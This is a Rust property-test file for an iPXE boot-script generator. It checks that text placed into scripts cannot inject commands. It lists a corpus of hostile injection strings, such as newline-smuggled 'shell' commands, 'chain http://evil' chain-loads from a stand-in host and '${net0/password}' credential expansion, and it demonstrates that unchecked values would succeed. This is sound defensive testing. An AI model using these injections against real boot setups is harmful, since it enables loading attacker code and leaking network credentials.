//! Whatever people and machines write, a script does what was meant and nothing else.
#![allow(clippy::unwrap_used, missing_docs)]

use moxxie_core::boot::plan::{BootPlan, Image};
use moxxie_core::ipxe::interpreter::{Booted, Choice, Client, Outcome, Reply, ShownMenu, Trace, World};
use moxxie_core::ipxe::text::MAX_TEXT;
use moxxie_core::ipxe::{
    Menu, MenuItem, Text, Wait, Word, boot, failed, hold, identify, local_disk, menu, wait,
};
use moxxie_core::profile::LocalBoot;
use proptest::prelude::*;

const HOSTILE: [&str; 34] = [
    "a\nshell",
    "a\r\nchain http://evil/",
    "a\rb",
    "\nshell",
    "${net0/password}",
    "foo${net0/password}",
    "$${b}",
    "${a${b}}",
    "$",
    "${",
    "}",
    "$ {x}",
    "x||shell",
    "||",
    "&&",
    ";",
    "&& chain http://evil",
    "|| shell",
    "a ; reboot",
    "x\\",
    "\\",
    "#",
    "#x",
    "a #x",
    ":boot",
    ":failed",
    "-x",
    "--help",
    "--",
    "---",
    "\u{1b}[2J",
    "\u{202e}x",
    "a\0b",
    "\u{2028}\u{85}",
];

/// Anything: unicode, iPXE syntax in pieces, and the corpus.
fn anything() -> impl Strategy<Value = String> {
    let pieces = prop::sample::select(vec![
        "$", "{", "}", "${", "|", "||", "&&", "&", ";", "#", "\\", "\r", "\n", " ", "-", "--", ":", "a",
        "errno", "netX/mac", "shell", "\t", "\u{1b}", "\u{0}", "é", "\u{202e}", "x=1",
    ]);
    prop_oneof![
        any::<String>(),
        prop::collection::vec(pieces, 0..12).prop_map(|p| p.concat()),
        prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
        "[ -~]{0,400}",
    ]
}

/// Any word that passes the check.
fn a_word() -> impl Strategy<Value = Word> {
    prop_oneof![
        "[!-~]{1,40}".boxed(),
        "[-:$}{|&;#=a]{1,6}".boxed(),
        prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned).boxed(),
    ]
    .prop_filter_map("not a word", |t| Word::new(t).ok())
}

/// A URL as the checks of a plan allow it.
fn a_url() -> impl Strategy<Value = Word> {
    a_word().prop_filter_map("not a URL", |w| Word::url(format!("http://h/{w}")).ok())
}

fn clients() -> [Client; 2] {
    [Client::bios(), Client::efi()]
}

/// Commands without their arguments: the shape of what ran.
fn shape(run: &Trace) -> Vec<String> {
    run.commands.iter().filter_map(|c| c.first().cloned()).collect()
}

struct Everything(Vec<Choice>);
impl World for Everything {
    fn fetch(&mut self, url: &str) -> Reply {
        if url == "http://lost/" { Reply::not_found() } else { Reply::Body(b"MZ".to_vec()) }
    }
    fn choose(&mut self, _menu: &ShownMenu) -> Choice {
        self.0.pop().unwrap_or(Choice::TimeOut)
    }
}

fn dead(_url: &str) -> Reply {
    Reply::not_found()
}

fn plan_of(kernel: Word, name: Word, initrd: Word, args: Vec<Word>, report: Option<Word>) -> BootPlan {
    let other = Word::new(format!("{name}.2")).unwrap();
    BootPlan {
        kernel: Image { name: name.clone(), url: kernel },
        initrds: vec![Image { name: other, url: initrd }],
        args,
        report,
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn a_word_is_read_as_exactly_itself(word in a_word()) {
        let script = format!("#!ipxe\nset x before {word}\nset y {word} after\n");
        for client in clients() {
            let run = client.run(&script, &mut dead);
            prop_assert_eq!(&run.outcome, &Outcome::RanOffEnd);
            let words: Vec<Vec<&str>> = vec![
                vec!["set", "x", "before", word.as_str()],
                vec!["set", "y", word.as_str(), "after"],
            ];
            prop_assert_eq!(&run.commands, &words);
        }
    }

    #[test]
    fn any_text_is_a_word_or_a_readable_refusal(text in anything()) {
        if let Err(error) = Word::new(text) {
            let message = error.to_string();
            prop_assert!(message.len() < 700);
            prop_assert!(!message.chars().any(|c| c.is_control()), "{message:?}");
        }
    }

    #[test]
    fn any_text_is_only_printed(text in anything()) {
        let text = Text::new(text);
        prop_assert!(text.as_str().len() <= MAX_TEXT);
        prop_assert!(text.as_str().bytes().all(|b| (0x20..0x7f).contains(&b)));
        // As the argument of a command without any `--`, at the end of a line.
        let script = format!("#!ipxe\necho {text}\nexit 5\n");
        for client in clients() {
            let run = client.run(&script, &mut dead);
            prop_assert_eq!(&run.output, &vec![text.to_string()]);
            prop_assert_eq!(shape(&run), ["echo", "exit"]);
        }
        // Making it harmless twice changes nothing.
        prop_assert_eq!(Text::new(text.as_str()).to_string(), text.to_string());
    }

    #[test]
    fn texts_never_change_what_a_script_does(a in anything(), b in anything()) {
        let (a, b, plain) = (Text::new(a), Text::new(b), Text::new("plain"));
        let again = Word::url("http://h/m").unwrap();
        for client in clients() {
            for how in [LocalBoot::Auto, LocalBoot::Exit, LocalBoot::Sanboot] {
                let one = client.run(local_disk(how, &a, &b).unwrap(), &mut dead);
                let two = client.run(local_disk(how, &plain, &plain).unwrap(), &mut dead);
                prop_assert_eq!(shape(&one), shape(&two));
                prop_assert_eq!(one.outcome, two.outcome);
                let said = format!("Moxxie: {b}");
                prop_assert_eq!(one.output[0].trim_end(), said.trim_end());
            }
            let one = client.run(hold(&a, 9, &again), &mut dead);
            let two = client.run(hold(&plain, 9, &again), &mut dead);
            prop_assert_eq!(shape(&one), shape(&two));
            prop_assert_eq!(&one.commands[1..], &two.commands[1..]);
            let waits = |who: &Text| {
                let place = Wait {
                    who, place: 3, of: 12, about: Some(40), seconds: 7, again: &again, local: LocalBoot::Auto,
                };
                wait(&place)
            };
            let one = client.run(waits(&a), &mut dead);
            let two = client.run(waits(&plain), &mut dead);
            prop_assert_eq!(shape(&one), shape(&two));
            prop_assert_eq!(&one.commands[1..], &two.commands[1..]);
            let one = client.run(failed(&a, LocalBoot::Auto), &mut dead);
            let two = client.run(failed(&plain, LocalBoot::Auto), &mut dead);
            prop_assert_eq!(shape(&one), shape(&two));
        }
    }

    #[test]
    fn a_menu_is_only_what_it_shows(
        title in anything(), line in anything(), names in prop::collection::vec((anything(), a_url()), 0..14),
        again in a_url(),
    ) {
        let (title, lines) = (Text::new(title), [Text::new(line)]);
        let items: Vec<MenuItem> =
            names.into_iter().map(|(t, url)| MenuItem { title: Text::new(t), url }).collect();
        let script = menu(&Menu {
            title: &title, machine_lines: &lines, items: &items, again: &again, timeout_ms: 9, local: LocalBoot::Auto,
        });
        for client in clients() {
            let client = client.stop_at_chain();
            let picks = (0..items.len()).map(|n| (format!("p{n}"), items[n].url.clone()));
            for (label, url) in picks.chain([("retry".to_owned(), again.clone())]) {
                let script_for = Reply::text("#!ipxe\n");
                let mut world = Picker(Choice::Pick(label), script_for);
                let run = client.run(&script, &mut world);
                prop_assert_eq!(&run.outcome, &Outcome::Chain(url.to_string()));
                prop_assert_eq!(&run.fetched, &vec![url.to_string()]);
                let shown = &run.menus[0];
                prop_assert_eq!(&shown.title, title.as_str());
                prop_assert_eq!(&shown.items[0].text, lines[0].as_str());
                for (n, item) in items.iter().enumerate() {
                    prop_assert_eq!(&shown.items[n + 3].text, item.title.as_str());
                }
                let names: Vec<&str> = shown.items.iter().filter_map(|i| i.label.as_deref()).collect();
                prop_assert_eq!(names.len(), items.len() + 3);
            }
            let run = client.run(&script, &mut dead);
            prop_assert!(run.fetched.is_empty());
        }
    }

    #[test]
    fn a_boot_is_word_for_word_the_plan(
        kernel in a_url(), initrd in a_url(), name in a_word(), args in prop::collection::vec(a_word(), 0..12),
        title in anything(), report in a_url(), again in a_url(),
    ) {
        let plan = plan_of(kernel, name, initrd, args, Some(report.clone()));
        let script = boot(&plan, &Text::new(title), &again).unwrap();
        for client in clients() {
            let run = client.run(&script, &mut Everything(vec![]));
            let mut words: Vec<String> = plan.initrds.iter().map(|i| format!("initrd={}", i.name)).collect();
            words.extend(plan.args.iter().map(|a| a.to_string()));
            let booted = Booted {
                kernel: plan.kernel.url.to_string(),
                name: plan.kernel.name.to_string(),
                args: words,
                initrds: plan.initrds.iter().map(|i| (i.name.to_string(), i.url.to_string())).collect(),
            };
            prop_assert_eq!(&run.outcome, &Outcome::Booted(booted));
            let urls = [plan.kernel.url.to_string(), plan.initrds[0].url.to_string()];
            prop_assert_eq!(&run.fetched, &urls);
            let start = ["echo", "imgfree", "set", "kernel", "goto", "set", "initrd", "goto", "boot"];
            prop_assert_eq!(shape(&run), start);

            // Everything fails: still only these URLs, in this order, and the end is the firmware's.
            let run = client.run(&script, &mut dead);
            prop_assert_eq!(&run.outcome, &Outcome::Exit(1));
            let k = plan.kernel.url.to_string();
            prop_assert_eq!(&run.fetched[..3], &[k.clone(), k.clone(), k]);
            prop_assert!(run.fetched[3].starts_with(report.as_str()));
            let tail = &run.fetched[3][report.as_str().len()..];
            prop_assert!(
                tail[1..].starts_with("stage=progress&message=iPXE%20could%20not%20load%20")
                    && tail.ends_with("error%200x2d0c613b") && tail.matches(['&', '?', '#']).count() == 2,
                "{tail}"
            );
            prop_assert_eq!(&run.fetched[4], again.as_str());
            prop_assert_eq!(run.fetched.len(), 5);
        }
    }

    #[test]
    fn waiting_asks_only_the_url_it_was_given(
        who in anything(), again in a_url(), place in any::<u64>(), about in prop::option::of(any::<u64>()),
        seconds in 5..=15u32,
    ) {
        let who = Text::new(who);
        let script =
            wait(&Wait { who: &who, place, of: place, about, seconds, again: &again, local: LocalBoot::Auto });
        for client in clients() {
            let run = client.clone().stop_at_chain().run(&script, &mut |_: &str| Reply::text("#!ipxe\n"));
            prop_assert_eq!(&run.outcome, &Outcome::Chain(again.to_string()));
            prop_assert_eq!(run.slept, u64::from(seconds));
            let run = client.run(&script, &mut dead);
            prop_assert!(run.fetched.len() == 10 && run.fetched.iter().all(|url| url == again.as_str()));
            prop_assert!(matches!(run.outcome, Outcome::Sanboot(0x80) | Outcome::Exit(1)));
        }
    }

    #[test]
    fn identify_asks_only_the_url_it_was_given(url in a_url(), serial in "[ -~]{0,30}", product in any::<String>()) {
        for client in clients() {
            let client = client.stop_at_chain().set("serial", &serial).set("product", &product);
            let run = client.run(identify(&url), &mut |_: &str| Reply::text("#!ipxe\n"));
            let Outcome::Chain(asked) = &run.outcome else { panic!("{:?}", run.outcome) };
            prop_assert!(asked.starts_with(url.as_str()));
            let query = &asked[url.as_str().len() + 1..];
            let names: Vec<&str> = query.split('&').filter_map(|p| p.split('=').next()).collect();
            prop_assert_eq!(
                names,
                ["mac", "uuid", "arch", "platform", "mac1", "mac2", "mac3", "ip", "serial", "manufacturer", "product", "asset"]
            );
            let digits = |name: &str| query.split('&').find_map(|p| p.strip_prefix(name)).map(str::len);
            prop_assert_eq!(digits("product=hex:"), Some(product.len() * 2));
        }
    }
}

struct Picker(Choice, Reply);
impl World for Picker {
    fn fetch(&mut self, _url: &str) -> Reply {
        self.1.clone()
    }
    fn choose(&mut self, _menu: &ShownMenu) -> Choice {
        self.0.clone()
    }
}

/// The judge itself must see an attack, or the tests above prove nothing.
#[test]
fn the_judge_sees_what_unchecked_text_would_do() {
    let attack = |value: &str| {
        let script = format!("#!ipxe\nset node {value}\nexit 1\n");
        Client::bios()
            .set("net0/password", "secret")
            .run(script, &mut |_: &str| Reply::text("#!ipxe\nexit 66\n"))
    };
    assert_eq!(attack("x\nshell").outcome, Outcome::Shell);
    assert_eq!(attack("x\r\nshell").outcome, Outcome::Shell);
    assert_eq!(attack("x && chain --replace http://evil").outcome, Outcome::Exit(66));
    assert_eq!(attack("x ; chain http://evil").fetched, ["http://evil"]);
    assert_eq!(attack("${net0/password}").settings["node"], "secret");
    assert_eq!(attack("x \\").outcome, Outcome::RanOffEnd, "the next line was swallowed");
    assert_eq!(attack("x #").settings["node"], "x");
    assert_eq!(attack("plain").outcome, Outcome::Exit(1));
}

#[test]
fn the_corpus_is_refused_or_harmless() {
    for text in HOSTILE {
        let harmless =
            matches!(text, "$" | "}" | "x||shell" | ":boot" | ":failed" | "-x" | "--help" | "--" | "---");
        assert_eq!(Word::new(text).is_ok(), harmless, "{text:?}");
    }
    let long = "a ".repeat(35_000);
    assert!(Word::new(long.trim()).is_err() && Word::new("a".repeat(70_000)).is_err());
    assert!(Text::new(long).as_str().len() <= MAX_TEXT);
}
